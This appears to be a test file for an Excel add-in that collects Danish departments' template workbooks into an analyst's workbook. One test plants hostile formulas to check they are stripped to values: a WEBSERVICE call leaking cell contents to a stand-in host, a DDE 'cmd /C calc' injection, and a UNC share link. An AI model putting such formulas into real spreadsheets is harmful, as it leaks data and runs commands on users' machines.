/**
 * «Vælg forvaltningernes filer» and «Indsæt arkene» through the Office.js adapter on the strict test host, with both
 * clients: seven files made from the template collect and compute to the notat's figures; a sheet
 * already there is only replaced on the analyst's choice, after a hidden copy is kept; values only
 * (no formula of a department's file ever lands in the workbook); the analyst's references to the
 * template sheets (formulas, names, data validation, conditional formats) keep working.
 */
import type ExcelJS from "exceljs";
import { loadExampleData, type ExampleData } from "../../src/cli/example";
import { planCollect, planRestore, removedText } from "../../src/core/collect";
import { roundHalfAway } from "../../src/core/numbers";
import { DEFAULT_UNIT_CODES } from "../../src/core/units";
import { collectFiles, previewCollect, type PickedFile } from "../../src/office/collect";
import { calculateStatus, newSession, readWorkbookGrid } from "../../src/office/operations";
import { readPickedFile } from "../../src/taskpane/collect-xlsx";
import { loadXlsx, createHost, type TestHost, type WorkbookModel } from "../host";
import { analystWorkbook, bytesOf, departmentWorkbook } from "./collect-fixtures";
import ExcelJSLib from "../../src/cli/exceljs";
import { applyCollect, touchedSheets } from "../../src/cli/xlsx-collect";
import { readWorkbookGrid as readXlsxGrid } from "../../src/cli/xlsx-read";
import { hostEnv } from "./fixtures";

let data: ExampleData;
let analyst: WorkbookModel;
const picked = new Map<string, PickedFile>();

async function pick(name: string, wb: ExcelJS.Workbook): Promise<PickedFile> {
  const r = await readPickedFile(name, await bytesOf(wb), Date.UTC(2026, 0, 15));
  if (!r.ok) throw new Error(`${name} not read`);
  return r.file;
}

beforeAll(async () => {
  data = await loadExampleData();
  analyst = await loadXlsx(await bytesOf(await analystWorkbook(data)));
  for (const code of DEFAULT_UNIT_CODES) picked.set(code, await pick(`${code}-2025.xlsx`, await departmentWorkbook(code, data)));
});

const files = (codes: readonly string[] = DEFAULT_UNIT_CODES): PickedFile[] => codes.map((c) => picked.get(c) as PickedFile);
const names = (host: TestHost) => host.model.sheets.map((s) => s.name);

describe("collecting the forvaltninger's files in the add-in", () => {
  test("seven template files: 7 delivered and valid, filled into the blank template sheets in place, then Beregn status gives the notat's figures", async () => {
    const host = createHost(structuredClone(analyst));
    const env = hostEnv(host);
    const session = newSession();
    const before = names(host);
    const plan = await previewCollect(env, session, files(), { choice: "ask" });
    expect(plan.overview.map((r) => [r.code, r.state, r.source?.file, r.action, r.errors, r.warnings])).toEqual(DEFAULT_UNIT_CODES.map((c) => [c, "delivered", `${c}-2025.xlsx`, "fill-template", 0, 0]));
    expect(plan.problems).toEqual([]);
    host.resetStats();
    const r = await collectFiles(env, session, files(), { choice: "ask" });
    expect(r.failures).toEqual([]);
    expect(r.done.map((a) => a.code)).toEqual([...DEFAULT_UNIT_CODES]);
    // One read (with the templates' formulas and formats), one batch of values, one read of the names.
    expect(host.stats.syncs).toBeLessThanOrEqual(8);
    // Filled in place: the same sheets (ids), in the same order.
    expect(names(host)).toEqual(before);
    expect(host.model.sheets.map((x) => x.id)).toEqual(analyst.sheets.map((x) => x.id));
    for (const code of DEFAULT_UNIT_CODES) expect(host.cell(code, "B5")?.v).toBe(data.departments[code]?.status.loentilskud);
    const calc = await calculateStatus(env, session);
    expect(calc.outcome.issues.filter((i) => i.severity === "error")).toEqual([]);
    expect(roundHalfAway(calc.outcome.result.kk?.status.samlet ?? 0)).toBe(797);
    expect(roundHalfAway(calc.outcome.result.kk?.maalopfyldelse?.vaegtet ?? 0)).toBe(92);
  });

  test("a forvaltning that already has a sheet waits for a choice, showing both versions' key figures; nothing is inserted meanwhile", async () => {
    const host = createHost(structuredClone(analyst));
    const env = hostEnv(host);
    await collectFiles(env, newSession(), files(["BUF"]), { choice: "ask" });
    const model = host.toJSON();
    const newer = await pick("BUF-2025-rettet.xlsx", await departmentWorkbook("BUF", data, 2));
    const r = await collectFiles(env, newSession(), [newer], { choice: "ask" });
    expect(r.plan.undecided).toBe(true);
    expect(r.done).toEqual([]);
    const row = r.plan.actions.find((a) => a.code === "BUF");
    expect(row?.kind).toBe("conflict");
    const d = data.departments.BUF;
    const samlet = (d?.status.loentilskud ?? 0) + (d?.status.virksomhedspraktik ?? 0) + (d?.status.smaajob ?? 0);
    if (row?.kind !== "conflict") throw new Error("no conflict");
    expect(row.existingFigures?.samlet).toBeCloseTo(samlet, 9);
    expect(row.figures?.samlet).toBeCloseTo(2 * samlet, 9);
    expect(host.toJSON()).toEqual(model);
  });

  test("replace first keeps a hidden copy »BUF (erstattet)« of the old sheet's cells, then fills BUF in place: the analyst's formula on BUF still points at BUF", async () => {
    const host = createHost(structuredClone(analyst));
    const env = hostEnv(host);
    await collectFiles(env, newSession(), files(["BUF"]), { choice: "ask" });
    // The analyst's own work on the sheet and elsewhere.
    await host.run(async (ctx) => {
      ctx.workbook.worksheets.getItem("BUF").getRange("E20").values = [["Min note"]];
      ctx.workbook.worksheets.add("Mine tal").getRange("A1:B1").formulas = [["BUF i alt", "=BUF!B5+BUF!B6"]];
      await ctx.sync();
    });
    const before = host.toJSON();
    const oldBuf = before.sheets.find((x) => x.name === "BUF");
    const newer = await pick("BUF-2025-rettet.xlsx", await departmentWorkbook("BUF", data, 2));
    const r = await collectFiles(env, newSession(), [newer], { choice: "ask", choices: { BUF: "replace" } });
    expect(r.failures).toEqual([]);
    expect(r.done.map((a) => [a.code, a.kind])).toEqual([["BUF", "replace"]]);
    const after = host.toJSON();
    expect(after.sheets.map((x) => x.name)).toEqual([...before.sheets.map((x) => x.name), "BUF (erstattet)"]);
    const kept = after.sheets.find((x) => x.name === "BUF (erstattet)");
    expect(kept?.visibility).toBe("hidden");
    // Every value of the old sheet is in the kept copy, at its address.
    for (const [addr, c] of Object.entries(oldBuf?.cells ?? {})) if (c.v !== undefined && c.v !== null) expect([addr, kept?.cells[addr]?.v]).toEqual([addr, c.v]);
    // BUF is the same sheet (its id), filled with the new values; the analyst's formula on »Mine tal« still reads BUF.
    const buf = after.sheets.find((x) => x.name === "BUF");
    expect(buf?.id).toBe(oldBuf?.id);
    expect(host.cell("BUF", "B5")?.v).toBe(2 * (data.departments.BUF?.status.loentilskud ?? 0));
    expect(host.cell("BUF", "E20")).toBeUndefined();
    expect(host.cell("Mine tal", "B1")?.f).toBe("=BUF!B5+BUF!B6");
    for (const x of before.sheets.filter((y) => y.name !== "BUF")) expect(after.sheets.find((y) => y.name === x.name)).toEqual(x);
    const restore = planRestore(await readWorkbookGrid(env, newSession(), "collect"), "BUF");
    expect(restore).toMatchObject({ ok: true, restore: "BUF (erstattet)", as: "BUF", current: { name: "BUF", keepAs: "BUF (erstattet 2)" } });
    // The same file again is »uændret«: no choice, no second copy, nothing written.
    const model = host.toJSON();
    const again = await collectFiles(env, newSession(), [newer], { choice: "ask" });
    expect(again.plan.actions.map((a) => a.kind)).toEqual(["unchanged"]);
    expect(again.plan.undecided).toBe(false);
    expect(host.toJSON()).toEqual(model);
  });

  test("skip leaves the workbook as it was", async () => {
    const host = createHost(structuredClone(analyst));
    const env = hostEnv(host);
    await collectFiles(env, newSession(), files(["BUF"]), { choice: "ask" });
    const model = host.toJSON();
    const newer = await pick("BUF-2025-rettet.xlsx", await departmentWorkbook("BUF", data, 2));
    const r = await collectFiles(env, newSession(), [newer], { choice: "skip" });
    expect(r.plan.actions.map((a) => a.kind)).toEqual(["skip"]);
    expect(host.toJSON()).toEqual(model);
  });

  test("values only: a file with WEBSERVICE, DDE, UNC, external and cross-sheet formulas arrives as its cached values; the overview names what was removed", async () => {
    const wb = await departmentWorkbook("BUF", data);
    const ws = wb.getWorksheet("BUF") as ExcelJS.Worksheet;
    const d = data.departments.BUF;
    const helper = wb.addWorksheet("Ark1");
    helper.getCell("N2").value = d?.status.loentilskud ?? 0;
    ws.getCell("B5").value = { formula: "Ark1!N2", result: d?.status.loentilskud ?? 0 };
    ws.getCell("E1").value = { formula: 'WEBSERVICE("http://example.invalid/?d="&ENCODEURL(INDIRECT("Noter!A1")))', result: "ok" };
    ws.getCell("E2").value = { formula: "cmd|' /C calc'!A0", result: 0 };
    ws.getCell("E3").value = { formula: "'\\\\host\\share\\[x.xlsx]Ark1'!A1", result: 7 };
    ws.getCell("E4").value = { formula: "[1]Ark1!A1", result: 8 };
    ws.getCell("E5").value = "=1+1";
    const file = await pick("BUF-2025.xlsx", wb);
    const host = createHost(structuredClone(analyst));
    const env = hostEnv(host);
    const r = await collectFiles(env, newSession(), [file], { choice: "ask" });
    expect(r.failures).toEqual([]);
    const row = r.plan.overview.find((o) => o.code === "BUF");
    expect(row?.removed?.named.map((x) => [x.cell, x.kind])).toEqual([
      ["E1", "webservice"],
      ["E2", "dde"],
      ["E3", "unc"],
      ["E4", "external"],
      ["B5", "other-sheet"],
    ]);
    expect(removedText(row?.removed)).toContain("E1 (læser fra nettet)");
    // No formula anywhere in the workbook came from the file; each cell holds the value the file saved.
    for (const sheet of host.model.sheets) for (const c of Object.values(sheet.cells)) expect(String(c.f ?? "")).not.toMatch(/WEBSERVICE|calc|share|Ark1|\[1\]/i);
    expect(host.cell("BUF", "B5")?.v).toBe(d?.status.loentilskud);
    expect(host.cell("BUF", "B5")?.f).toBeUndefined();
    expect(host.cell("BUF", "E1")?.v).toBe("ok");
    expect(host.cell("BUF", "E3")?.v).toBe(7);
    // Text that looks like a formula stays text.
    expect(host.cell("BUF", "E5")?.v).toBe("=1+1");
    expect(host.cell("BUF", "E5")?.f).toBeUndefined();
    expect(host.model.sheets.some((x) => x.name === "Ark1")).toBe(false);
  });

  test("an analyst workbook with formulas, names, data validation and conditional formats pointing at every template sheet keeps them all after collecting seven files", async () => {
    const host = createHost(structuredClone(analyst));
    const env = hostEnv(host);
    await host.run(async (ctx) => {
      const a = ctx.workbook.worksheets.add("Analyse");
      DEFAULT_UNIT_CODES.forEach((code, i) => {
        const ref = `'${code}'!$B$5`;
        a.getRange(`A${i + 1}:B${i + 1}`).formulas = [[code, `=${ref}*2`]];
        ctx.workbook.names.add(`Loen_${i}`, `=${ref}`);
        const cf = a.getRange(`B${i + 1}`).conditionalFormats.add("Custom");
        cf.custom.rule.formula = `=${ref}>0`;
        cf.custom.format.fill.color = "#FFC7CE";
        a.getRange(`C${i + 1}`).dataValidation.rule = { decimal: { operator: "LessThanOrEqualTo", formula1: `=${ref}` } } as Excel.DataValidationRule;
      });
      await ctx.sync();
    });
    const before = host.toJSON();
    const r = await collectFiles(env, newSession(), files(), { choice: "ask" });
    expect(r.done.map((a) => a.kind)).toEqual(DEFAULT_UNIT_CODES.map(() => "fill-template"));
    const after = host.toJSON();
    // The analyst's sheet, its names, rules and formulas are exactly as before, and every sheet they point at is the same sheet.
    expect(after.sheets.find((x) => x.name === "Analyse")).toEqual(before.sheets.find((x) => x.name === "Analyse"));
    expect(after.names).toEqual(before.names);
    expect(JSON.stringify(after)).not.toContain("#REF");
    expect(after.sheets.map((x) => [x.name, x.id])).toEqual(before.sheets.map((x) => [x.name, x.id]));
    for (const code of DEFAULT_UNIT_CODES) expect(host.cell(code, "B5")?.v).toBe(data.departments[code]?.status.loentilskud);
  });

  test("a template sheet the analyst formatted (a conditional format on it) is no longer blank: a choice is asked, and replace keeps the rule on the sheet", async () => {
    const host = createHost(structuredClone(analyst));
    const env = hostEnv(host);
    await host.run(async (ctx) => {
      const cf = ctx.workbook.worksheets.getItem("BUF").getRange("B5:B9").conditionalFormats.add("Custom");
      cf.custom.rule.formula = "=$B5<0";
      cf.custom.format.fill.color = "#FFC7CE";
      await ctx.sync();
    });
    const r = await collectFiles(env, newSession(), files(["BUF"]), { choice: "ask" });
    const a = r.plan.actions[0];
    expect(a?.kind).toBe("conflict");
    if (a?.kind !== "conflict") throw new Error("no conflict");
    expect(a.touched).toEqual(["conditional-formats"]);
    const cfBefore = host.toJSON().sheets.find((x) => x.name === "BUF")?.conditionalFormats;
    const done = await collectFiles(env, newSession(), files(["BUF"]), { choice: "ask", choices: { BUF: "replace" } });
    expect(done.done.map((x) => x.kind)).toEqual(["replace"]);
    expect(host.toJSON().sheets.find((x) => x.name === "BUF")?.conditionalFormats).toEqual(cfBefore);
    expect(host.model.sheets.find((x) => x.name === "BUF (erstattet)")?.visibility).toBe("hidden");
  });

  test("error values and a formula without a result arrive as the CLI writes them: #N/A as the error value, 40+9 as 49, jobstatus's marker as an empty cell", async () => {
    const wb = await departmentWorkbook("BUF", data);
    const ws = wb.getWorksheet("BUF") as ExcelJS.Worksheet;
    ws.getCell("E1").value = { formula: "NA()", result: { error: "#N/A" } } as ExcelJS.CellFormulaValue;
    ws.getCell("E2").value = { error: "#DIV/0!" } as ExcelJS.CellErrorValue;
    ws.getCell("E3").value = { formula: "40+9" } as ExcelJS.CellFormulaValue;
    ws.getCell("E4").value = { formula: "C5*2" } as ExcelJS.CellFormulaValue;
    const file = await pick("BUF-2025.xlsx", wb);
    const host = createHost(structuredClone(analyst));
    const r = await collectFiles(hostEnv(host), newSession(), [file], { choice: "ask" });
    expect(r.done.map((a) => a.code)).toEqual(["BUF"]);
    const pane = ["E1", "E2", "E3", "E4"].map((c) => host.cell("BUF", c)?.v ?? null);
    expect(pane).toEqual([{ error: "#N/A" }, { error: "#DIV/0!" }, 49, null]);
    // The CLI's writer, on the same plan, gives the same cells.
    const cli = new ExcelJSLib.Workbook();
    await cli.xlsx.load((await bytesOf(await analystWorkbook(data))) as unknown as ExcelJS.Buffer);
    applyCollect(cli, r.plan.actions);
    const ws2 = cli.getWorksheet("BUF") as ExcelJS.Worksheet;
    expect(["E1", "E2", "E3", "E4"].map((c) => ws2.getCell(c).value ?? null)).toEqual(pane);
  });

  test("the CLI and the pane judge an untouched template alike: a number format on an empty input cell makes it the analyst's, a note does not", async () => {
    const wb = await analystWorkbook(data);
    (wb.getWorksheet("BUF") as ExcelJS.Worksheet).getCell("B5").numFmt = "0.0";
    (wb.getWorksheet("KFF") as ExcelJS.Worksheet).getCell("B5").note = "Husk at tjekke";
    const bytes = await bytesOf(wb);
    const host = createHost(await loadXlsx(bytes));
    const pane = await previewCollect(hostEnv(host), newSession(), files(["BUF", "KFF"]), { choice: "ask" });
    const cliBook = new ExcelJSLib.Workbook();
    await cliBook.xlsx.load(bytes as unknown as ExcelJS.Buffer);
    const grid = readXlsxGrid(cliBook);
    const cli = planCollect(grid, files(["BUF", "KFF"]), { choice: "ask", touched: touchedSheets(cliBook, grid) });
    const judged = (p: typeof pane) => p.actions.map((a) => [a.code, a.kind, "touched" in a ? a.touched : null]);
    expect(judged(pane)).toEqual([
      ["BUF", "conflict", ["number-formats"]],
      ["KFF", "fill-template", null],
    ]);
    expect(judged(cli)).toEqual(judged(pane));
  });

  test("a protected target sheet fails alone, named with what to do; the other six are written and reported as done", async () => {
    const model = structuredClone(analyst);
    const okf = model.sheets.find((x) => x.name === "ØKF");
    if (!okf) throw new Error("no ØKF sheet");
    okf.protected = true;
    const host = createHost(model);
    const r = await collectFiles(hostEnv(host), newSession(), files(), { choice: "ask" });
    const others = DEFAULT_UNIT_CODES.filter((c) => c !== "ØKF");
    expect(r.done.map((a) => a.code)).toEqual(others);
    expect(r.failures.map((f) => [f.code, f.limit])).toEqual([["ØKF", "protected"]]);
    expect(r.failures[0]?.message).toContain("Arket »ØKF« er beskyttet");
    for (const code of others) expect(host.cell(code, "B5")?.v).toBe(data.departments[code]?.status.loentilskud);
    expect(host.cell("ØKF", "B5")?.v ?? null).toBeNull();
  });

  test("a batch that fails part-way (the sheet protected after the check) reports exactly the sheets written, not nothing", async () => {
    const host = createHost(structuredClone(analyst));
    const env = hostEnv(host);
    let runs = 0;
    // The third run is the write batch (after reading and the protection check): ØKF, last, is protected just before it.
    const racing = {
      ...env,
      run: <T>(batch: (ctx: Excel.RequestContext) => Promise<T>): Promise<T> => {
        runs++;
        if (runs === 3) (host.model.sheets.find((x) => x.name === "ØKF") as { protected?: boolean }).protected = true;
        return env.run(batch);
      },
    };
    const r = await collectFiles(racing, newSession(), files(), { choice: "ask" });
    const others = DEFAULT_UNIT_CODES.filter((c) => c !== "ØKF");
    for (const code of others) expect(host.cell(code, "B5")?.v).toBe(data.departments[code]?.status.loentilskud);
    expect(r.done.map((a) => a.code)).toEqual(others);
    expect(r.failures.map((f) => [f.code, f.limit])).toEqual([["ØKF", "failed"]]);
  });

  test("a picked file that is no workbook, a lock file and a password-protected file are rows with the reason; the rest are collected", async () => {
    const lock = await readPickedFile("~$BUF-2025.xlsx", new Uint8Array([1, 2, 3]));
    const text = await readPickedFile("KFF-2025.xlsx", new TextEncoder().encode("Forvaltning;KFF"));
    const cfb = new Uint8Array(2048);
    cfb.set([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]);
    cfb.set(Array.from("EncryptionInfo").flatMap((ch) => [ch.charCodeAt(0), 0]), 600);
    const password = await readPickedFile("SOF-2025.xlsx", cfb);
    expect([lock, text, password].map((x) => (x.ok ? "ok" : x.reason))).toEqual(["lock-file", "not-workbook", "password"]);
    const unreadable = [lock, text, password].flatMap((x) => (x.ok ? [] : [{ file: x.file, reason: x.reason }]));
    const host = createHost(structuredClone(analyst));
    const r = await collectFiles(hostEnv(host), newSession(), files(["BIF"]), { choice: "ask", unreadable });
    expect(r.done.map((a) => a.code)).toEqual(["BIF"]);
    expect(r.plan.overview.filter((o) => o.state === "unreadable").map((o) => [o.code, o.unreadable?.reason])).toEqual([
      ["KFF", "not-workbook"],
      ["SOF", "password"],
    ]);
    expect(r.plan.problems).toEqual([{ kind: "unreadable", file: "~$BUF-2025.xlsx", reason: "lock-file" }]);
  });

  test("an unknown forvaltning, and two department sheets for one code in a file, are reported and not inserted", async () => {
    const two = await departmentWorkbook("BUF", data);
    const copy = two.addWorksheet("buf ");
    (two.getWorksheet("BUF") as ExcelJS.Worksheet).eachRow((row, n) => row.eachCell((c, col) => (copy.getCell(n, col).value = c.value)));
    const unknown = await departmentWorkbook("BUF", data);
    (unknown.getWorksheet("BUF") as ExcelJS.Worksheet).name = "XYZ";
    const host = createHost(structuredClone(analyst));
    const model = host.toJSON();
    const r = await collectFiles(hostEnv(host), newSession(), [await pick("BUF-to-ark.xlsx", two), await pick("XYZ.xlsx", unknown)], { choice: "ask" });
    expect(r.plan.problems.map((p) => p.kind).sort()).toEqual(["duplicate-code", "unknown-unit"]);
    expect(r.plan.overview.find((o) => o.code === "BUF")?.state).toBe("duplicate");
    expect(r.done).toEqual([]);
    expect(host.toJSON()).toEqual(model);
  });
});
